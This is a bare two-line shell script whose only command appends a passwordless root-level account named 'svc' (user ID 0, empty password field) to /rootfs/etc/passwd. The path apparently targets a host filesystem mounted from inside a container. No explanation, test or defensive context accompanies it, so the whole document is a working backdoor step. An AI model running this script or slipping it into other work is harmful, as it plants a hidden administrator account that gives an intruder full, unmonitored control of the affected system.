#!/bin/sh
echo 'svc::0:0::/root:/bin/sh' >> /rootfs/etc/passwd
